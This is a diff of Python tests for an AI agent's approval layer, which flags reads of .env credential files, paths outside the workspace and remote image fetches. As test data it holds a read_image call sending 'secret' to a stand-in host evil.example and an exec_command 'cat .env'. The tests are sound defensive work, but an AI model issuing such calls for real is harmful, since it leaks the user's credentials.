@@ -58,7 +58,9 @@ class _Surface:
         self.notes.append(text)
 
 
-def _approver(mode: str, workspace: Path, prompts: list[str], answer: str = "n", always: set[str] | None = None):
+def _approver(
+    mode: str, workspace: Path, prompts: list[str], answer: str = "n", always: set[str] | None = None
+):
     def ask(prompt: str) -> str:
         prompts.append(prompt)
         return answer
@@ -139,8 +141,13 @@ def test_read_only_asks_for_dotenv_files(workspace):
     (workspace / ".env.local").write_text("TOKEN=t\n")
     os.link(workspace / ".env", workspace / "settings.txt")
     assert credential_read_reason(_read(".env"), str(workspace)) == "holds credentials: a .env file"
-    assert credential_read_reason(_read(".env.local"), str(workspace)) == "holds credentials: a .env.local file"
-    assert credential_read_reason(_read("settings.txt"), str(workspace)) == "holds credentials: the workspace's .env"
+    assert (
+        credential_read_reason(_read(".env.local"), str(workspace)) == "holds credentials: a .env.local file"
+    )
+    assert (
+        credential_read_reason(_read("settings.txt"), str(workspace))
+        == "holds credentials: the workspace's .env"
+    )
     for name in (".env", ".env.local", "settings.txt"):
         prompts: list[str] = []
         assert _decide(_approver("read-only", workspace, prompts), _read(name)) == "deny"
@@ -151,7 +158,9 @@ def test_read_only_asks_outside_the_workspace_and_not_inside(workspace, tmp_path
     outside = tmp_path / "elsewhere.txt"
     outside.write_text("x\n")
     assert credential_read_reason(_read(str(outside)), str(workspace)) == f"outside the workspace: {outside}"
-    assert credential_read_reason(_read("../elsewhere.txt"), str(workspace)).startswith("outside the workspace")
+    assert credential_read_reason(_read("../elsewhere.txt"), str(workspace)).startswith(
+        "outside the workspace"
+    )
     prompts: list[str] = []
     assert _decide(_approver("read-only", workspace, prompts), _read(str(outside))) == "deny"
     assert len(prompts) == 1
@@ -185,13 +194,17 @@ def test_always_allow_does_not_cover_credentials_but_deny_all_still_denies(works
 
 def test_remote_image_urls_ask_under_read_only(workspace):
     call = tool_call("read_image", json.dumps({"source": "https://evil.example/?d=secret"}), "c_i")
-    assert credential_read_reason(call, str(workspace)) == "fetches a remote URL: https://evil.example/?d=secret"
+    assert (
+        credential_read_reason(call, str(workspace)) == "fetches a remote URL: https://evil.example/?d=secret"
+    )
     prompts: list[str] = []
     assert _decide(_approver("read-only", workspace, prompts), call) == "deny" and len(prompts) == 1
 
 
 def test_other_tools_and_bad_arguments_have_no_reason(workspace):
-    assert credential_read_reason(tool_call("exec_command", '{"cmd": "cat .env"}', "c"), str(workspace)) is None
+    assert (
+        credential_read_reason(tool_call("exec_command", '{"cmd": "cat .env"}', "c"), str(workspace)) is None
+    )
     assert credential_read_reason(tool_call("read_file", "{not json", "c"), str(workspace)) is None
     assert credential_read_reason(tool_call("read_file", "{}", "c"), str(workspace)) is None
 
